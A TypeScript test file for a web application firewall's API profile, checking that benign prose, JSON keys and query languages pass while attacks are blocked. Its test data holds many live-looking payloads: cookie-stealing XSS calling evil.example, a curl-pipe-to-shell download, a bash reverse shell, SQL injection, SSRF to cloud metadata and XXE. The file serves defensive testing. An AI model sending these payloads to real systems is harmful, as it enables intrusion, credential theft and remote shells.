// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * The API profile's value view (view.ts) through the real `waf` policy and CRS v4.28.0: prose that CRS blocks on
 * words alone passes, attacks in the same prose-like fields are still blocked, forged prose names are refused.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { fakeDeps, fakeRequestContext, instantiate, runRequest } from '../../policies/testing.ts';
import { policy } from '../../policies/waf/policy.ts';

const CRS = join(import.meta.dirname, '../../../../shared/crs/v4.28.0');
const rules = { setup: join(CRS, 'crs-setup.conf.example'), include: [join(CRS, 'rules')] };
const api = { rules };
const plain = { rules, profile: 'crs' };
const ua = { 'user-agent': 'curl/8.5.0', accept: 'application/json' };

type Init = Parameters<typeof fakeRequestContext>[0];

async function run(config: unknown, init: Init) {
  const deps = fakeDeps('waf@route:test');
  const { error } = await runRequest(instantiate(policy, config, deps), fakeRequestContext(init));
  return { error, events: deps.events };
}

function post(doc: unknown, ct = 'application/json'): Init {
  const body = typeof doc === 'string' ? doc : JSON.stringify(doc);
  return {
    method: 'POST',
    path: '/api/support/tickets',
    headers: { ...ua, 'content-type': ct, 'content-length': String(Buffer.byteLength(body)) },
    body: Buffer.from(body),
  };
}

describe('waf API profile: value view', () => {
  test('prose that CRS blocks on words alone passes the API profile', async () => {
    const cases: [string, string][] = [
      [
        'Our devs noticed that alert() and confirm() dialogs are blocked in the webview. Any workaround?',
        'xss',
      ],
      [
        'Why does the installer ask for admin rights? It wants to write to C:\\Program Files (x86)\\Acme.',
        'lfi',
      ],
      ["We're running out of disk space; /var/log is at 95% since the last update.", 'lfi'],
      ['請放在管理室，謝謝。我想修改订单的收货地址。', 'sqli'],
    ];
    for (const [message, family] of cases) {
      assert.equal((await run(plain, post({ message }))).error?.reason, `waf:${family}`, message);
      assert.equal((await run(api, post({ message }))).error, undefined, message);
    }
    // GraphQL variables and JSON Patch values are JSON values too.
    const gql = {
      query: 'mutation M($t: String!) { post(text: $t) { id } }',
      variables: { t: cases[1]?.[0] },
    };
    assert.equal((await run(api, post(gql))).error, undefined);
    const patch = [{ op: 'replace', path: '/description', value: cases[0]?.[0] }];
    assert.equal((await run(api, post(patch, 'application/json-patch+json'))).error, undefined);
  });

  test('attacks in the same prose-like fields are still blocked', async () => {
    const cases: [string, string][] = [
      ['Great post! <script>fetch("//evil.example/?c="+document.cookie)</script> thanks a lot', 'xss'],
      ['Nice article, thanks for sharing alert(document.cookie) with all of us', 'xss'],
      ['Thanks for the help :) <img src=x onerror=alert(1)> see you soon', 'xss'],
      ["Hi, my order 1' OR '1'='1 never arrived, please check it for me.", 'sqli'],
      ['Hello there my friend, please read ../../../../etc/passwd for me', 'lfi'],
      ["Hello there it's me'; DROP TABLE users; -- thanks a lot", 'sqli'],
      ['my hostname is web01; curl http://evil.example/s.sh | sh', 'rce'],
    ];
    for (const [message, family] of cases)
      assert.equal((await run(api, post({ message }))).error?.reason, `waf:${family}`, message);
    // A whole value that is a path is never prose.
    assert.equal((await run(api, post({ file: '/etc/passwd' }))).error?.reason, 'waf:lfi');
  });

  test('prose names cannot be forged from the query string, a form body or a JSON key', async () => {
    const q = await run(api, { path: '/api/files', query: 'gatehouse.prose.lsx:f=/etc/passwd', headers: ua });
    assert.ok(q.error, 'query');
    assert.ok(
      q.events.some((e) => (e.fields.rule_ids as number[] | undefined)?.includes(90105)),
      JSON.stringify(q.events),
    );
    const form = await run(
      api,
      post('gatehouse.prose.lsx%3Af=%2Fetc%2Fpasswd', 'application/x-www-form-urlencoded'),
    );
    assert.ok(form.error, 'form');
    assert.ok(form.events.some((e) => (e.fields.rule_ids as number[] | undefined)?.includes(90106)));
    // In JSON the key becomes `json.gatehouse.prose…`: not the reserved prefix, inspected as usual.
    const key = await run(api, post({ 'gatehouse.prose.lsx:f': '/etc/passwd' }));
    assert.equal(key.error?.reason, 'waf:lfi');
    // A JSON body itself never trips the reserved-name rules.
    assert.equal((await run(api, post({ note: 'gatehouse.prose is a fine word here' }))).error, undefined);
  });

  test('prose in a query parameter passes the API profile (CRS blocks it); the engine sees the prose name', async () => {
    const cases: [string, string][] = [
      ['q=%22program+files%22+windows+11', 'lfi'],
      ['q=alert()%20vs%20console.log', 'xss'],
      ['q=Program+Files&page=2', 'lfi'],
      ['q=alert()+in+the+docs', 'xss'],
    ];
    for (const [query, family] of cases) {
      const init = { path: '/api/search', query, headers: ua };
      assert.equal((await run(plain, init)).error?.reason, `waf:${family}`, query);
      assert.equal((await run(api, init)).error, undefined, query);
    }
    // A rule the waiver does not cover reports the parameter under its prose name.
    const rce = await run(api, {
      path: '/api/search',
      query: 'q=hello+there%3B+cat+/etc/passwd',
      headers: ua,
    });
    // Session 9: after a separator an OS file name is a command's argument (no family l): 930120 fires too.
    assert.ok(['waf:rce', 'waf:lfi'].includes(rce.error?.reason ?? ''), rce.error?.reason);
    assert.ok(JSON.stringify(rce.events).includes('ARGS:gatehouse.prose.s:q'), JSON.stringify(rce.events));
  });

  test('attacks in query parameters are still blocked, alone or inside prose', async () => {
    const cases: [string, string][] = [
      ['q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'xss'],
      ['q=alert(document.cookie)', 'xss'],
      ['q=Hi+team,+%3Cimg+src%3Dx+onerror%3Dalert(1)%3E+thanks+a+lot', 'xss'],
      ['q=Nice+article,+thanks+for+sharing+alert(document.cookie)+with+us', 'xss'],
      ['file=..%2F..%2F..%2Fetc%2Fpasswd', 'lfi'],
      ['q=please+read+..%2F..%2F..%2F..%2Fetc%2Fpasswd+for+me', 'lfi'],
      ['file=%2Fetc%2Fpasswd', 'lfi'],
      ['q=1%27+OR+%271%27%3D%271', 'sqli'],
      ['q=Hello+there+it%27s+me%27%3B+DROP+TABLE+users%3B+--+thanks', 'sqli'],
      ['q=hello+there%3B+cat+/etc/passwd', 'lfi'],
      // Full-width markup is folded by the canonical form and caught.
      ['q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C%2Fscript%EF%BC%9E', 'xss'],
    ];
    for (const [query, family] of cases) {
      const { error } = await run(api, { path: '/api/search', query, headers: ua });
      assert.equal(error?.reason, `waf:${family}`, query);
    }
  });

  test('forged prose names in the query are never exempted, whatever their case or encoding', async () => {
    // Threshold 100: only the matches count here; the forged name is still flagged (90105) and its value is
    // inspected by the rule its name claims a waiver from (930120), next to a genuine prose parameter.
    const high = { ...api, inbound_threshold: 100 };
    for (const name of ['gatehouse.prose.lsx:f', 'GATEHOUSE.PROSE.LSX:f', 'gatehouse%2Eprose%2Elsx%3Af']) {
      const r = await run(high, {
        path: '/api/files',
        query: `${name}=/etc/passwd&q=Program+Files`,
        headers: ua,
      });
      const ids = r.events.flatMap((e) => (e.fields.rule_ids as number[] | undefined) ?? []);
      assert.ok(ids.includes(90105) && ids.includes(930120), `${name}: ${ids.join(',')}`);
      assert.ok(
        (await run(api, { path: '/api/files', query: `${name}=/etc/passwd`, headers: ua })).error,
        name,
      );
    }
    // Upper case in a form body: 90106 (case-insensitive).
    const form = await run(
      api,
      post('GATEHOUSE.PROSE.LSX%3Af=%2Fetc%2Fpasswd', 'application/x-www-form-urlencoded'),
    );
    assert.ok(form.events.some((e) => (e.fields.rule_ids as number[] | undefined)?.includes(90106)));
  });

  test('a query parameter or form field named like a JSON value (json.…) gets none of the JSON-value exclusions', async () => {
    const high = { ...api, inbound_threshold: 1000 };
    const ids = (r: { events: { fields: Record<string, unknown> }[] }) =>
      r.events.flatMap((e) => (e.fields.rule_ids as number[] | undefined) ?? []);
    const sqli = "1'+union+select+1,2--";
    const control = ids(await run(high, { path: '/api/x', query: `q=${sqli}`, headers: ua }));
    assert.ok(control.includes(942190), control.join(','));
    for (const name of ['json.q', 'JSON.q', 'json%2Eq', 'Json.a.b']) {
      const got = ids(await run(high, { path: '/api/x', query: `${name}=${sqli}`, headers: ua }));
      assert.ok(got.includes(942190), `${name}: ${got.join(',')}`);
      // Also when the value reads as prose (the prose view keeps the new name).
      const prose = `the+select+union+committee+said+${sqli}`;
      const got2 = ids(await run(high, { path: '/api/x', query: `${name}=${prose}`, headers: ua }));
      assert.ok(got2.includes(942190), `${name} (prose): ${got2.join(',')}`);
    }
    // A form body cannot make such names: refused by 90108 (any case), and a JSON body is unaffected.
    for (const field of ['json.q', 'JSON.Q']) {
      const form = await run(api, post(`${field}=hello`, 'application/x-www-form-urlencoded'));
      assert.equal(form.error?.reason, 'waf:protocol-attack', field);
      assert.ok(ids(form).includes(90108));
    }
    assert.equal((await run(api, post({ json: { q: 'hello' } }))).error, undefined);
    assert.equal(
      (await run(api, post('q=hello&jsonp=1', 'application/x-www-form-urlencoded'))).error,
      undefined,
    );
  });

  test('inline binary images pass; a script under a data: URL is decoded and blocked', async () => {
    const png = Buffer.from(Array.from({ length: 120 }, (_, i) => (i * 97 + 13) % 256)).toString('base64');
    const image = { avatar: `data:image/png;base64,${png}` };
    assert.ok((await run(plain, post(image))).error);
    assert.equal((await run(api, post(image))).error, undefined);
    const html = Buffer.from('<script>alert(document.cookie)</script>').toString('base64');
    assert.equal(
      (await run(api, post({ avatar: `data:image/png;base64,${html}` }))).error?.reason,
      'waf:xss',
    );
  });

  test('exclude_fields still covers a field whose value is prose', async () => {
    const message = 'Thanks, I tried `whoami` on the runner and it prints nothing in our office network.';
    const blocked = await run(api, post({ message }));
    assert.equal(blocked.error?.reason, 'waf:rce');
    const ev = blocked.events.find((e) => e.type === 'waf_block');
    assert.ok(JSON.stringify(ev).includes('gatehouse.prose.'), JSON.stringify(ev));
    assert.equal((await run({ ...api, exclude_fields: ['message'] }, post({ message }))).error, undefined);
  });
});

describe('waf API profile: JSON member names (CRS 930120 on the dotted argument names)', () => {
  const rules930 = (r: Awaited<ReturnType<typeof run>>): number[] =>
    r.events.flatMap((e) => (e.fields.rule_ids as number[] | undefined) ?? []);
  const variables = (r: Awaited<ReturnType<typeof run>>): string[] =>
    r.events.flatMap((e) => ((e.fields.matches ?? []) as { variable: string }[]).map((m) => m.variable));

  test('member names that are ordinary words pass (CRS blocks them: the joining dot makes a dot-file)', async () => {
    const docs: unknown[] = [
      { state: 'success', name: 'ci/test', coverage: 87.6 },
      { credentials: { type: 'oauth' }, secrets: ['DEPLOY_KEY'], vscode: { extensions: ['biome'] } },
      { items: [{ coverage: 1, htaccess: false }, { credentials: 'none' }] },
      { web: { config: { enabled: true } }, boot: { ini: 'x' } },
      { query: 'mutation S($c: Float) { status(coverage: $c) { id } }', variables: { coverage: 91.2 } },
    ];
    for (const doc of docs) {
      assert.equal((await run(plain, post(doc))).error?.reason, 'waf:lfi', JSON.stringify(doc));
      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    }
    // JSON in a string value (CRS does not decode it; the profile flattens it under `.decoded-json`).
    const nested = { settings: JSON.stringify({ coverage: { credentials: 1 } }) };
    assert.equal((await run(api, post(nested))).error, undefined);
  });

  test('member names that are file names or paths are still blocked: top level, nested, in arrays, decoded', async () => {
    const keys = [
      '.git/config',
      '../../../etc/passwd',
      '.ssh/id_rsa',
      '/etc/shadow',
      '.htaccess',
      '.envrc',
      '.aws/credentials',
      '..%2f..%2fetc%2fpasswd',
      'C:\\Windows\\win.ini',
      // Plain names that are file names themselves: seen through the raw-key view.
      'web.config',
      'wp-config.php',
      'boot.ini',
    ];
    for (const k of keys) {
      for (const doc of [
        { [k]: 'x' },
        { project: { files: { [k]: { content: 'x' } } } },
        { items: [{ name: 'a' }, { [k]: 1 }] },
        [{ [k]: null }],
        { settings: JSON.stringify({ files: { [k]: 1 } }) },
        { query: 'mutation U($f: JSON) { upload(files: $f) { id } }', variables: { f: { [k]: 'x' } } },
      ]) {
        const r = await run(api, post(doc));
        assert.equal(r.error?.reason, 'waf:lfi', `${k}: ${JSON.stringify(doc)}`);
        assert.ok(rules930(r).includes(930120), `${k}: ${rules930(r).join(',')}`);
      }
    }
    // A plain name is reported under its raw-key view, the name as sent.
    const r = await run(api, post({ site: { 'web.config': '<configuration/>' } }));
    assert.ok(variables(r).includes('ARGS_NAMES:gatehouse.json-key:web.config'), variables(r).join(' '));
  });

  test('the exemption covers JSON-shaped names only when they cannot be paths, wherever they come from', async () => {
    // Query parameters and form fields named like JSON arguments: a name with path syntax is still inspected.
    for (const query of ['json.a/etc/passwd=1', 'json..htaccess=1', 'json.x%2F.ssh%2Fid_rsa=1']) {
      const r = await run(api, { path: '/api/files', query, headers: ua });
      assert.equal(r.error?.reason, 'waf:lfi', query);
    }
    // (A form field named json.… is refused as such too: 90108.)
    const form = await run(api, post('json.a%2Fetc%2Fshadow=1', 'application/x-www-form-urlencoded'));
    assert.ok(form.error);
    const formIds = form.events.flatMap((e) => (e.fields.rule_ids as number[] | undefined) ?? []);
    assert.ok(formIds.includes(930120) && formIds.includes(90108), formIds.join(','));
    // Values are untouched: a value naming a file is inspected by 930120 as before.
    assert.equal((await run(api, post({ coverage: '.coverage' }))).error?.reason, 'waf:lfi');
    assert.equal((await run(api, post({ path: '/etc/passwd' }))).error?.reason, 'waf:lfi');
    // The crs profile is unchanged: CRS' own verdict on the dotted names.
    assert.equal((await run(plain, post({ coverage: 1 }))).error?.reason, 'waf:lfi');
  });
});

describe('waf API profile: rules for attacks CRS finds only at paranoia level 2 or not at all', () => {
  const get = (query: string, headers: Record<string, string> = {}): Init => ({
    path: '/api/items',
    query,
    headers: { ...ua, ...headers },
  });

  test('90109: a string ended by a comment or a tautology (CRS PL1 misses most)', async () => {
    const cases: [string, Init, boolean][] = [
      ['query tautology', get(`family=${encodeURIComponent("O'Brien' OR 1=1--")}`), true],
      ['query comment', get(`user=${encodeURIComponent("admin'-- ")}`), true],
      ['query hash comment', get(`user=${encodeURIComponent("admin'#")}`), true],
      ['header tautology', get('q=jacket', { 'x-tenant-id': "1' OR '1'='1" }), true],
      ['JSON block comment', post({ login: "admin'/*" }), false],
      ['JSON tautology', post({ name: "x' or 'a'='a" }), false],
      [
        'cookie stacked query',
        get('q=jacket', { cookie: "cart_id=abc'; DROP TABLE carts;--; theme=dark" }),
        false,
      ],
    ];
    for (const [label, init, plainMisses] of cases) {
      if (plainMisses) assert.equal((await run(plain, init)).error, undefined, label);
      assert.equal((await run(api, init)).error?.reason, 'waf:sqli', label);
    }
    for (const clean of [
      "O'Brien's order -- the blue one",
      "Rock 'n' roll or jazz = my favourites",
      "It's 5 o'clock; time to go",
      'The query "status = open OR type = bug" works',
      'Buchungstag;Valuta;"Verwendungszweck";Betrag\n01.11.2026;01.11.2026;"Miete November";-950,00',
    ])
      assert.equal((await run(api, post({ note: clean }))).error, undefined, clean);
  });

  test('90111: an identity probe as a command of its own after a shell separator (CRS PL2 misses ;id;)', async () => {
    const cases: [string, Init][] = [
      ['query ;id;', get(`sort=${encodeURIComponent(';id;')}`)],
      ['query |whoami', get(`host=${encodeURIComponent('report.pdf|whoami')}`)],
      ['JSON && uname -a', post({ host: 'example.com && uname -a' })],
      ['JSON $(id)', post({ name: 'x$(id)' })],
    ];
    for (const [label, init] of cases) assert.equal((await run(api, init)).error?.reason, 'waf:rce', label);
    for (const clean of [
      'sort by id; then by name',
      'identity and idle time',
      'the id | the name',
      'sort=id',
    ])
      assert.equal((await run(api, post({ note: clean }))).error, undefined, clean);
  });

  test('90110: a query operator on a credential field (Strapi CVE-2023-22894), not on other fields', async () => {
    for (const q of [
      'filters[resetPasswordToken][$notNull]=true',
      'filters[createdBy][password][$startsWith]=$2a$10$a',
      'where[apiKey][$regex]=^a',
    ])
      assert.equal((await run(api, get(q))).error?.reason, 'waf:nosql', q);
    assert.equal(
      (await run(api, post({ filters: { owner: { password: { $startsWith: '$2a' } } } }))).error?.reason,
      'waf:nosql',
    );
    assert.equal((await run(api, get('filters[slug][$startsWith]=spring&sort=title'))).error, undefined);
  });

  test('90107 at the start of a value, 90101 on Razor, 90102 on cluster-internal hosts', async () => {
    assert.equal((await run(api, post({ family: '`id`' }))).error?.reason, 'waf:rce');
    assert.equal(
      (await run(api, post({ body: 'Try @(System.Diagnostics.Process.Start("cmd.exe","/c whoami")) here' })))
        .error?.reason,
      'waf:template',
    );
    const cursor = Buffer.from(
      'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    ).toString('base64');
    assert.equal((await run(api, post({ cursor }))).error?.reason, 'waf:ssrf');
    assert.equal(
      (await run(api, post({ url: 'http://billing.prod.svc.cluster.local/admin' }))).error?.reason,
      'waf:ssrf',
    );
    assert.equal((await run(api, post({ note: 'Email me @ (home) about System.IO docs' }))).error, undefined);
  });
});

describe('waf API profile: NDJSON media types with a structured suffix (FHIR bulk data)', () => {
  test('application/fhir+ndjson is allowed and parsed line by line: clean passes, an attack in a line is blocked', async () => {
    const lines = (family: string): string =>
      [
        { resourceType: 'Patient', id: 'p1', name: [{ family: "O'Brien", given: ['Kieran'] }] },
        { resourceType: 'Patient', id: 'p2', name: [{ family, given: ['Ana'] }] },
      ]
        .map((l) => JSON.stringify(l))
        .join('\n');
    assert.equal((await run(api, post(lines('Silva'), 'application/fhir+ndjson'))).error, undefined);
    assert.equal(
      (await run(api, post(lines('<script>alert(1)</script>'), 'application/fhir+ndjson'))).error?.reason,
      'waf:xss',
    );
  });
});

describe('waf API profile: headers, cookies, member names and query encodings (session 6)', () => {
  const get = (path: string, headers: Record<string, string> = {}): Init => ({
    method: 'GET',
    path: path.split('?')[0] as string,
    query: path.includes('?') ? path.slice(path.indexOf('?') + 1) : '',
    headers: { ...ua, ...headers },
  });
  const b64 = (s: string) => encodeURIComponent(Buffer.from(s).toString('base64'));

  test('payloads in client-address headers, custom headers and cookies are blocked', async () => {
    for (const [headers, reason] of [
      [
        { 'x-forwarded-for': '1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,0x78))s), 1, 2)))' },
        'protocol-attack',
      ],
      [{ 'x-forwarded-for': '|| powershell -nop -w hidden -enc SQBFAFgA' }, 'rce'],
      [{ 'x-real-ip': '....//....//etc/passwd' }, 'lfi'],
      [{ 'x-forwarded-for': "'-alert(1)-'" }, 'protocol-attack'],
      [{ 'x-device-id': '$(sleep 5)' }, 'rce'],
      [{ 'x-api-version': 'http://169.254.169.254.nip.io/latest/meta-data/' }, 'ssrf'],
      [{ 'x-device-id': "' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))-- -" }, 'sqli'],
      [{ cookie: "sid=abc; last_section=admin' || '1'=='1" }, 'sqli'],
      [
        {
          cookie:
            'sid=abc; prefs=j%3A%7B%22constructor%22%3A%7B%22prototype%22%3A%7B%22isAdmin%22%3Atrue%7D%7D%7D',
        },
        'prototype-pollution',
      ],
      [{ cookie: 'locale=%7B%7B%23with%20%22s%22%20as%20%7Cstring%7C%7D%7D' }, 'template'],
      [{ 'x-client-id': '-1 OR 1=1' }, 'sqli'],
      [{ 'x-forwarded-host': 'localhost:2375' }, 'ssrf'],
      [{ 'x-forwarded-host': '0177.0.0.1:8500' }, 'ssrf'],
      [{ 'x-forwarded-host': '[::1]' }, 'ssrf'],
    ] as const) {
      const r = await run(api, get('/api/contacts?page=1', headers));
      assert.equal(r.error?.reason, `waf:${reason}`, JSON.stringify(headers));
    }
  });

  test('ordinary address lists, origins on localhost and cookies pass', async () => {
    const cleanHeaders: Record<string, string>[] = [
      { 'x-forwarded-for': '203.0.113.7, 10.0.0.2, 2001:db8::1' },
      { 'x-real-ip': '[2001:db8:cafe::17]:4711' },
      { 'x-forwarded-for': 'unknown, _hidden' },
      { origin: 'http://localhost:3000', referer: 'http://localhost:3000/contacts' },
      {
        cookie:
          '_ga=GA1.1.931408219.8110007533; sid=BBEyH4xtCvA4o88PUD5EJJYeS0k-KmU6fE8PG9hj; tz=Europe%2FBerlin',
      },
      { 'x-request-id': 'c5c2db21-ea87-4ccb-8406-fd104ad26f99', 'x-api-version': '2024-06-01' },
      { 'x-forwarded-host': 'api.example.com', 'x-client-id': '1042' },
      { 'x-forwarded-host': 'shop.example.com:8443, edge.example.net' },
    ];
    for (const headers of cleanHeaders) {
      assert.equal(
        (await run(api, get('/api/contacts?page=1', headers))).error,
        undefined,
        JSON.stringify(headers),
      );
    }
  });

  test('a command in a member name, an operator over an empty array, payloads in base64 or double-encoded query values', async () => {
    for (const doc of [
      { notifications: { push: true, '| id': true } },
      { email: 'a@b.example', password: { $nin: [] } },
    ]) {
      assert.ok((await run(api, post(doc))).error !== undefined, JSON.stringify(doc));
    }
    for (const path of [
      `/api/contacts?page[cursor]=${b64('{"after":"http://metadata.google.internal/computeMetadata/v1/","dir":"next"}')}`,
      `/api/contacts?page[cursor]=${b64('{"after":";bash -i >& /dev/tcp/198.51.100.3/4444 0>&1"}')}`,
      '/api/contracts?filter%5Bcounterparty%5D=%255B%255B%2524%257B7%252A7%257D%255D%255D',
    ]) {
      assert.ok((await run(api, get(path))).error !== undefined, path);
    }
    // Quoted search phrases with SQL words pass; break-outs do not.
    for (const q of ['"select committee" report', '"select all" button missing']) {
      const path = `/api/search?q=${encodeURIComponent(q)}&page=1`;
      assert.equal((await run(plain, get(path))).error?.reason, 'waf:sqli', q);
      assert.equal((await run(api, get(path))).error, undefined, q);
    }
    for (const q of ["' or 1=1--", '"x" union select password from users', "admin'--"]) {
      assert.ok((await run(api, get(`/api/search?q=${encodeURIComponent(q)}`))).error !== undefined, q);
    }
    // A headless CMS's filter language passes; Mongo operator injection, code-running operators and operators on
    // credential fields do not.
    for (const path of [
      '/api/articles?filters[slug][$eq]=spring-collection-2026&populate=*',
      '/api/products?filters[$or][0][category][slug][$eq]=news&filters[$or][1][category][slug][$eq]=press',
      '/api/landing-pages?filters[$and][0][title][$notNull]=true&filters[$and][1][locale][$ne]=en',
    ]) {
      assert.equal((await run(plain, get(path))).error?.reason, 'waf:sqli', path);
      assert.equal((await run(api, get(path))).error, undefined, path);
    }
    for (const path of [
      '/api/login?username[$ne]=x&password[$ne]=x',
      '/api/articles?filters[$where]=sleep(5000)',
      '/api/articles?filters[title][$regex]=^a',
      '/api/users?filters[password][$startsWith]=a',
      '/api/users?filters[createdBy][resetPasswordToken][$notNull]=true',
    ]) {
      assert.ok((await run(api, get(path))).error !== undefined, path);
    }
    // Clean cursors and filters decode to clean values.
    for (const path of [
      `/api/contacts?page[cursor]=${b64('{"after":"c_8f2a","dir":"next"}')}&page[size]=50`,
      `/api/search?filter=${encodeURIComponent('{"status":"open","owner":"me"}')}`,
    ]) {
      assert.equal((await run(api, get(path))).error, undefined, path);
    }
  });
});

describe('waf API profile: URL-encoded forms get the value view (session 6)', () => {
  const form = (body: string): Init => ({
    method: 'POST',
    path: '/api/posts/1/comments',
    headers: {
      ...ua,
      'content-type': 'application/x-www-form-urlencoded',
      'content-length': String(Buffer.byteLength(body)),
    },
    body: Buffer.from(body),
  });
  const enc = (o: Record<string, string>) => new URLSearchParams(o).toString();
  const saml = (xml: string) =>
    enc({ SAMLResponse: Buffer.from(xml).toString('base64'), RelayState: '/home' });
  const assertion =
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>';

  test('prose, markdown code, rich text and SAML responses in form fields pass; CRS blocks them', async () => {
    for (const body of [
      enc({
        body: '+1, but note that `xargs -r` is a GNU extension; on macOS use `xargs` without `-r`.',
        fkey: '40fa',
      }),
      enc({ message: 'I need to sleep 8 hours before the select committee meeting; drop me a line after.' }),
      enc({
        content:
          '<p style="text-align: center;"><span style="color: #e03e2d;">Winter sale</span></p><p><img src="https://cdn.example.com/a.png" alt="Sale"></p>',
      }),
      enc({ code: 'for f in *.log; do\n  gzip "$f"\ndone\n', language: 'bash' }),
    ]) {
      assert.ok((await run(plain, form(body))).error !== undefined, body);
      assert.equal((await run(api, form(body))).error, undefined, body);
    }
    // A SAML response is decoded like any base64 value, but its markup is the protocol's, not a page's.
    assert.equal((await run(api, form(saml(assertion)))).error, undefined);
  });

  test('payloads in form fields are still blocked, forged view names too', async () => {
    for (const body of [
      enc({ q: "1' UNION SELECT password FROM users--" }),
      enc({ message: 'Hi there <script>alert(1)</script> thanks a lot' }),
      enc({ host: '8.8.8.8; cat /etc/passwd' }),
      enc({ data: Buffer.from('{"a":"1\' OR 1=1--"}').toString('base64') }),
      enc({ 'gatehouse.prose.l:f': '/etc/passwd' }),
      enc({ 'gatehouse.prose.k:x.fenced-code': '; cat /etc/passwd' }),
      enc({ code: 'x=1\ncat /etc/passwd\n' }),
      saml(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${assertion}`),
    ]) {
      assert.ok((await run(api, form(body))).error !== undefined, body);
    }
  });
});

describe('waf API profile: filter expressions of search and query languages (family e, session 6)', () => {
  const get = (path: string): Init => ({
    method: 'GET',
    path: path.split('?')[0] as string,
    query: path.slice(path.indexOf('?') + 1),
    headers: { ...ua },
  });

  test('JQL, CQL and saved-search expressions pass; CRS blocks them', async () => {
    for (const [param, expr] of [
      ['jql', 'project = OPS AND status in ("In Progress", "To Do") ORDER BY updated DESC'],
      ['cql', 'text ~ "select committee" AND lastmodified > now("-4w")'],
      ['jql', 'summary ~ "npm install" OR description ~ "ERESOLVE"'],
    ] as const) {
      const path = `/rest/api/3/search?${encodeURIComponent(param)}=${encodeURIComponent(expr)}&maxResults=50`;
      assert.equal((await run(plain, get(path))).error?.reason, 'waf:sqli', expr);
      assert.equal((await run(api, get(path))).error, undefined, expr);
    }
    const saved = { savedSearch: { expression: "lower(site_name) LIKE '%loch%' AND elevation_m < 300" } };
    assert.equal((await run(api, post(saved))).error, undefined);
  });

  test('break-outs, tautologies, subqueries, delays and stacked statements in the same places are blocked', async () => {
    for (const expr of [
      "project = OPS' OR '1'='1",
      'project = OPS OR 1 = 1',
      'project = OPS AND sleep(5)',
      'project = (select password from users)',
      'project = OPS; drop table users',
      "status = 'x' union select password from users",
    ]) {
      const path = `/rest/api/3/search?jql=${encodeURIComponent(expr)}`;
      assert.ok((await run(api, get(path))).error !== undefined, expr);
      assert.ok((await run(api, post({ savedSearch: { expression: expr } }))).error !== undefined, expr);
    }
  });
});

describe('waf API profile: images, link URLs in rich text, attachments (session 7)', () => {
  const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');

  test('a small PNG avatar, a CMS mailto link with an encoded subject and a base64 curl trace pass', async () => {
    const png = Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      Buffer.from('9046a675f149362409a347d48cec8483'),
    ]);
    const trace =
      '* Connected to proxy.corp.local (10.20.0.5) port 3128\n> CONNECT api.example.com:443 HTTP/1.1\n> Host: api.example.com:443\n< HTTP/1.1 200 Connection established\n';
    const docs: unknown[] = [
      { image: `data:image/png;base64,${png.toString('base64')}`, crop: { x: 0, y: 0, w: 256, h: 256 } },
      {
        content:
          '<p><a href="mailto:press@inkwell.example.com?subject=Press%20inquiry">press@inkwell.example.com</a> | <a href="tel:+4930123456">+49 30 123456</a></p>',
      },
      { filename: 'curl-trace.txt', data: b64(trace) },
    ];
    for (const doc of docs) {
      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    }
    // CRS decodes neither percent-encoding nor base64 in JSON values; it blocks the image as sent.
    assert.ok((await run(plain, post(docs[0]))).error !== undefined);
  });

  test('script behind an image signature, markup hidden by percent-encoding, a smuggled request sent as is: blocked', async () => {
    const png = Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      Buffer.from('<script>alert(document.cookie)</script>'),
    ]);
    const cases: unknown[] = [
      { image: `data:image/png;base64,${png.toString('base64')}` },
      { content: '<p>Hello %3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E</p>' },
      { content: '<p><a href="javascript%3Aalert(1)">x</a> %3Cimg src=x onerror=alert(1)%3E</p>' },
      { note: 'GET /admin HTTP/1.1\r\nHost: internal\r\n\r\n' },
      { data: b64("' UNION SELECT password FROM users--") },
    ];
    for (const doc of cases) {
      const { error } = await run(api, post(doc));
      assert.equal(error?.status, 403, JSON.stringify(doc));
    }
  });
});

describe('waf API profile: e-mail templates, incident write-ups, formulas in prose (session 7)', () => {
  test('templates with ARIA roles, background colours and merge tags in links; code in rich text; formulas', async () => {
    for (const doc of [
      {
        html: '<p>Hi {{ first_name | default: "there" }},</p>{% if trial_days_left < 3 %}<p style="color:#b91c1c">Your trial ends soon. <a href="{{billing_url}}">Pick a plan</a>.</p>{% endif %}<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px;background:#f4f4f5"><ul><li>Select multiple contacts and update them at once</li><li>Union of saved views (beta)</li></ul></td></tr></table>',
      },
      {
        body: '<h2>Timeline (UTC)</h2><ul><li><time datetime="2026-11-14">14:02</time> alert fired</li><li>14:09 on-call killed the stuck reindex job (<code>kill -TERM 48213</code>)</li></ul><p>A migration dropped the <code>issues_title_trgm</code> index, so every <code>LIKE \'%…%\'</code> search did a full table scan.</p>',
      },
      {
        description:
          'Reaction rates follow the Arrhenius equation k = A·exp(−Ea/RT), with Ea in kJ mol⁻¹ and T in kelvin. Sample variance is reported as σ² = Σ(xᵢ − μ)² / (n − 1).',
      },
      { title: 'os.system("clear") does nothing on Windows' },
    ]) {
      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
    }
  });

  test('script in styles, a probe in a subshell, calls with payload arguments, JSON-operator SQL: blocked', async () => {
    for (const doc of [
      { html: '<td style="background:url(javascript:alert(1))">x</td>' },
      { html: '<table role="presentation" onmouseover="alert(1)"><tr><td>x</td></tr></table>' },
